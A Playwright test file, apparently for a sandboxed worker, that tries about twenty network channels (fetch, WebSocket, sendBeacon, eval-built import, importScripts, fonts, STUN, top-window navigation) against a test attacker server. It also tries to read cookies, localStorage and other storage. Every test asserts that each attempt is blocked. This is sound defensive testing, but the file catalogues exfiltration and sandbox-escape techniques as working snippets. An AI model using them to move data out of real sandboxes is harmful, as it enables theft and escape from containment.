import { expect, test } from './support/bare-page.ts';

/*
 * Every way a worker has to speak to the network. Each attack reports how it went; the test looks
 * at the attacker's server, which must not have heard of it.
 */
const ways: Record<string, (target: string) => string> = {
  fetch: (t) => `await fetch('${t}').then(() => 'sent')`,
  'fetch without cors': (t) => `await fetch('${t}', { mode: 'no-cors' }).then(() => 'sent')`,
  'fetch that outlives the worker': (t) =>
    `await fetch('${t}', { keepalive: true, method: 'POST', body: 'x' })`,
  XMLHttpRequest: (t) =>
    `(() => { const x = new XMLHttpRequest(); x.open('GET', '${t}', false); x.send(); return x.status; })()`,
  WebSocket: (t) =>
    `await new Promise((ok, no) => { const s = new WebSocket('${t}'.replace('http', 'ws')); s.onopen = ok; s.onerror = no; })`,
  WebSocketStream: (t) =>
    `await new (self as any).WebSocketStream('${t}'.replace('http', 'ws')).opened`,
  WebTransport: (t) =>
    `await new (self as any).WebTransport('${t}'.replace('http:', 'https:')).ready`,
  EventSource: (t) =>
    `await new Promise((ok, no) => { const s = new EventSource('${t}'); s.onopen = ok; s.onerror = no; })`,
  sendBeacon: (t) => `(navigator as any).sendBeacon('${t}', 'x')`,
  'import()': (t) => `await (0, eval)("import('${t}')")`,
  'import() built from a string': (t) => `await new Function("return import('${t}')")()`,
  importScripts: (t) => `(self as any).importScripts('${t}')`,
  'importScripts from the prototype': (t) =>
    `(Object.getPrototypeOf(Object.getPrototypeOf(self)) as any).importScripts.call(self, '${t}')`,
  'a font': (t) =>
    `await (self as any).fonts.add(new (self as any).FontFace('f', 'url(${t})')).load('1em f')`,
  'a worker of its own': (t) =>
    `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${t}')"]))); w.onerror = no; setTimeout(ok, 300); })`,
  RTCPeerConnection: (t) =>
    `(() => { const c = new (self as any).RTCPeerConnection({ iceServers: [{ urls: 'stun:${t.replace('http://', '')}' }] }); c.createDataChannel('x'); return 'made'; })()`,
  'a service worker': (t) => `await (navigator as any).serviceWorker.register('${t}')`,
  'the page that contains it': () => `(self as any).parent.document.title`,
  'the top window': (t) => `(() => { (self as any).top.location = '${t}'; })()`,
  'its own location': (t) =>
    `(() => { (self as any).location = '${t}'; (self as any).location.href = '${t}'; })()`,
  'a new window': (t) => `(self as any).open('${t}')`,
};

for (const [name, attack] of Object.entries(ways)) {
  test(`${name} reaches nobody`, async ({ bare, attacker }) => {
    const target = `${attacker.origin}/${encodeURIComponent(name)}`;
    const { text } = await bare.run(`
      try { console.log('outcome:', ${attack(target)}); }
      catch (error) { console.log('blocked:', String(error)); }
    `);
    expect(text).toMatch(/blocked:|outcome: (undefined|false)/);
    await bare.page.waitForTimeout(150);
    expect(attacker.hits).toEqual([]);
    expect(await bare.page.textContent('#canary')).toBe('alive');
    expect((await bare.run('console.log(1 + 1)')).text).toBe('2');
  });
}

test('storage, cookies and the page are out of reach', async ({ bare }) => {
  await bare.page.evaluate(() => {
    localStorage.setItem('secret', 'progress');
    document.cookie = 'secret=cookie';
  });
  const { text } = await bare.run(`
    const tries: Record<string, () => unknown> = {
      localStorage: () => (self as any).localStorage.getItem('secret'),
      sessionStorage: () => (self as any).sessionStorage.length,
      cookie: () => (self as any).document.cookie,
      parent: () => (self as any).parent.location.href,
      top: () => (self as any).top.location.href,
      origin: () => { if (self.origin !== 'null') return self.origin; throw new Error('opaque'); },
    };
    const later: Record<string, () => Promise<unknown>> = {
      indexedDB: () => new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; }),
      caches: () => caches.open('x'),
      cookieStore: () => (self as any).cookieStore.getAll(),
      opfs: () => navigator.storage.getDirectory(),
    };
    for (const [name, attempt] of Object.entries(tries)) {
      try { console.log(name, 'REACHED', attempt()); } catch { console.log(name, 'out of reach'); }
    }
    for (const [name, attempt] of Object.entries(later)) {
      try { await attempt(); console.log(name, 'REACHED'); } catch { console.log(name, 'out of reach'); }
    }
  `);
  expect(text).not.toContain('REACHED');
  expect(text.split('\n')).toHaveLength(10);
});
